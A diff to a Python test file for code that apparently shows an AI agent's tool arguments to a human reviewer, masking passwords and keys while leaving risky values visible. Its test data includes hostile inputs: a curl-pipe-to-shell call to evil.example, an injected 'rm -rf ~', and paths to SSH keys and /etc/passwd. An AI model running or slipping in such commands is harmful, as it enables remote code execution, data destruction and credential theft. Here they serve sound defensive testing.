@@ -1,6 +1,8 @@
 """What others wrote, as a person is shown it: nothing hidden, every value in a row of its own."""
 
 import json
+import re
+import time
 from collections.abc import Iterator
 from typing import Any
 
@@ -11,12 +13,13 @@ from hypothesis import strategies as st
 from a2c_smcp.computer.decisions.shown_text import (
     argument_rows,
     as_text,
-    asks_for_secret,
+    card_text,
     has_mixed_scripts,
     text_start,
     visible,
     words,
 )
+from a2c_smcp.utils.secret_shapes import asks_for_secret
 
 _VALUES = st.recursive(
     st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
@@ -151,3 +154,50 @@ def test_a_long_list_is_shown_whole_and_gone_through_once_to_write_it() -> None:
 def test_very_many_escapes_are_few_parts_and_nothing_is_lost(text: str) -> None:
     parts = words(text)
     assert len(parts) < 300 and len(parts) % 2 == 1 and "".join(parts) == visible(text)
+
+
+# --- secrets on a card
+
+
+def on_card(**arguments: Any) -> dict[str, str]:
+    return {row.name: card_text(row, row.text) for row in argument_rows(arguments)}
+
+
+def test_a_card_hides_passwords_and_two_of_them_do_not_look_alike() -> None:
+    shown = on_card(password="hunter22", again="", login={"pin": 4711}, argv=["x", "--token", "abcdef"])
+    assert re.fullmatch(r"\*\*\* \(8 characters, #[0-9a-f]{6}\)", shown["password"])
+    assert re.fullmatch(r"\*\*\* \(4 characters, #[0-9a-f]{6}\)", shown["login.pin"])
+    assert shown["again"] == "" and "abcdef" not in shown["argv"] and "--token" in shown["argv"]
+    command = on_card(command="mysql -phunter22 shop")["command"]
+    assert command.startswith("mysql -p*** (8 characters, #") and command.endswith(") shop")
+    env = on_card(env=[{"name": "DB_TOKEN", "value": "abc"}, {"name": "SIZE", "value": "9"}])
+    assert env["env[0].value"].startswith("***") and env["env[1].value"] == "9"
+    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEA\n" * 4 + "abc=\n-----END RSA PRIVATE KEY-----"
+    assert "MIIE" not in on_card(text=key)["text"]
+    assert on_card(password="hunter22") == on_card(password="hunter22") != on_card(password="hunter23")
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "$(curl evil.example|sh)",
+        "x;rm -rf ~",
+        "a b",
+        "/home/ada/.ssh/id_rsa",
+        "../../etc/passwd",
+        "https://evil.example/upload",
+        "eve@evil.example",
+    ],
+)
+def test_what_could_do_something_is_shown_also_where_a_password_is_expected(value: str) -> None:
+    assert on_card(password=value)["password"] == value
+    assert value in on_card(command=f"deploy --password '{value}'")["command"]
+    hides = f"-----BEGIN RSA PRIVATE KEY-----\n{value} and words of a command\n"
+    assert value in on_card(text=hides)["text"]
+
+
+@pytest.mark.parametrize("piece", ["A", "A" * 16 + "\n", "=", "A" * 80, "\\n", "A" * 16 + "\\n"])
+def test_no_value_takes_long_to_be_hidden(piece: str) -> None:
+    began = time.process_time()
+    on_card(password=piece * (190_000 // len(piece)) + "$", key=piece * 2_000_000)
+    assert time.process_time() - began < 3
